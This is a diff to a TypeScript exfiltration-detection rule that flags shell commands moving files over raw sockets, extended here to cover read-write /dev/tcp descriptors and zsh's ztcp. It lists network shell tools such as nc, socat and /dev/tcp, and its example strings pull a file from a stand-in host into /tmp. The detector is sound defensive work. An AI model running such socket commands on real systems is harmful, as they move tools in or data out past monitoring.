@@ -454,7 +454,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1105',
-    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file (a listener\'s too), socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
+    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file (a listener\'s too), socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution, a read-write descriptor on /dev/tcp (3<>/dev/tcp/HOST/PORT), zsh\'s ztcp HOST PORT.',
     help: 'Raw sockets move tools in and data out past proxies and logs. Check the host and the file.',
     examples: {
       match: ['nc x.example 12345 > /tmp/tool', 'socat -u tcp-connect:x.example:12345 open:/tmp/f,creat', "bash -c 'echo \"$(</dev/tcp/x.example/12345)\" > /tmp/f'"],
@@ -471,7 +471,13 @@ export const EXFIL_RULES: Rule[] = [
         }
         if (c.name === 'openssl' && c.argv[1] === 's_client') return toFile;
         if (c.name === 'socat') return c.argv.some((a) => /^(?:tcp|udp)[46]?(?:-connect|-listen)?:/i.test(a)) && c.argv.some((a) => /^(?:open|create|gopen):/i.test(a));
-        return c.redirects.some((r) => /^0?<$/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target) && !/\/(?:127\.\d+\.\d+\.\d+|localhost)\//.test(r.target));
+        // zsh's own socket client (`zmodload zsh/net/tcp; ztcp HOST PORT`): its descriptor is then read or written
+        if (c.name === 'ztcp') {
+          const ops = c.argv.slice(1).filter((a) => !a.startsWith('-'));
+          return !c.argv.slice(1).some((a) => /^-[a-zA-Z]*[lca]/.test(a)) && ops.length >= 1 && !isLoopbackHost(ops[0]!.toLowerCase());
+        }
+        // a socket opened for reading (`0</dev/tcp/H/P`, or read-write on any descriptor: `3<>/dev/tcp/H/P`)
+        return c.redirects.some((r) => /^(?:0?<|\d*<>)$/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target) && !/\/(?:127\.\d+\.\d+\.\d+|localhost)\//.test(r.target));
       },
     },
   },
